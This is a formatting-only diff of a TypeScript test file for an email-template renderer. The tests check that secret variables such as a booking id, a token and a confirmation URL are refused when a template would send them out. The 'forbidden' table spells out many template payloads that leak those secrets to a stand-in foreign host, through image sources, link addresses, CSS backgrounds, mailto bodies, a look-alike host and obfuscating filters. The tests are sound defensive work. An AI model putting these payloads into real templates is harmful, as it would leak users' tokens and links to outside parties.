@@ -10,8 +10,7 @@ const variables = {
   booking_id: '3f2b8c1e-5d4a-4b7e-9c0f-1a2b3c4d5e6f',
   token: '815429',
 };
-const written = (content: string, subject = 'Hello') =>
-  writeMail({ subject, content }, variables);
+const written = (content: string, subject = 'Hello') => writeMail({ subject, content }, variables);
 
 describe('the secrets of an email', () => {
   it('are printed as text, in the subject, and as the whole address of a link', async () => {
@@ -30,7 +29,9 @@ describe('the secrets of an email', () => {
     const { html } = await written(
       '<a href="https://shine.example/my-bookings?booking_id={{ booking_id }}">See it</a>',
     );
-    expect(html).toContain(`href="https://shine.example/my-bookings?booking_id=${variables.booking_id}"`);
+    expect(html).toContain(
+      `href="https://shine.example/my-bookings?booking_id=${variables.booking_id}"`,
+    );
   });
 
   it('are what a condition finds them to be', async () => {
@@ -39,24 +40,42 @@ describe('the secrets of an email', () => {
   });
 
   const forbidden: [string, string][] = [
-    ['the address of a foreign link', '<a href="http://foreign.example?x={{ confirmation_url }}">Go</a>'],
+    [
+      'the address of a foreign link',
+      '<a href="http://foreign.example?x={{ confirmation_url }}">Go</a>',
+    ],
     ['the name of a foreign host', '<a href="https://{{ token }}.foreign.example/">Go</a>'],
-    ['a host that begins as our own', '<a href="https://shine.example.foreign.example/{{ token }}">Go</a>'],
+    [
+      'a host that begins as our own',
+      '<a href="https://shine.example.foreign.example/{{ token }}">Go</a>',
+    ],
     ['a host behind our own', '<a href="https://shine.example@foreign.example/{{ token }}">Go</a>'],
     ['a picture', '<img src="https://foreign.example/{{ token }}.png" alt="">'],
     ['a whole picture', '<img src="{{ confirmation_url }}" alt="">'],
-    ['a background', '<table background="https://foreign.example/{{ token }}"><tr><td>x</td></tr></table>'],
+    [
+      'a background',
+      '<table background="https://foreign.example/{{ token }}"><tr><td>x</td></tr></table>',
+    ],
     ['a style', '<p style="background:url(https://foreign.example/{{ token }})">x</p>'],
     ['an email', '<a href="mailto:evil@foreign.example?body={{ token }}">Write</a>'],
     ['a title', '<p title="{{ token }}">x</p>'],
     ['a typed address', '<p>http://foreign.example/?x={{ confirmation_url }}</p>'],
     ['a typed address in pieces', '<p>http://foreign.example/<b>{{ token }}</b></p>'],
-    ['a hidden typed address', '<p class="preview" style="display:none">foreign.example/{{ token }}</p><p>x</p>'],
+    [
+      'a hidden typed address',
+      '<p class="preview" style="display:none">foreign.example/{{ token }}</p><p>x</p>',
+    ],
     ['a typed host', '<p>{{ token }}.foreign.example</p>'],
     ['a reversed link', '<a href="https://foreign.example/{{ token | reverse }}">Go</a>'],
     ['a cut link', '<img src="https://foreign.example/{{ token | slice: 0, 3 }}.png" alt="">'],
-    ['an encoded link', '<a href="https://foreign.example/{{ confirmation_url | url_encode }}">Go</a>'],
-    ['a captured link', '{% capture it %}x{{ token }}{% endcapture %}<a href="https://foreign.example/{{ it }}">Go</a>'],
+    [
+      'an encoded link',
+      '<a href="https://foreign.example/{{ confirmation_url | url_encode }}">Go</a>',
+    ],
+    [
+      'a captured link',
+      '{% capture it %}x{{ token }}{% endcapture %}<a href="https://foreign.example/{{ it }}">Go</a>',
+    ],
     ['its first character', '<img src="https://foreign.example/{{ token.first }}.png" alt="">'],
   ];
   it.each(forbidden)('are refused in %s', async (_what, content) => {
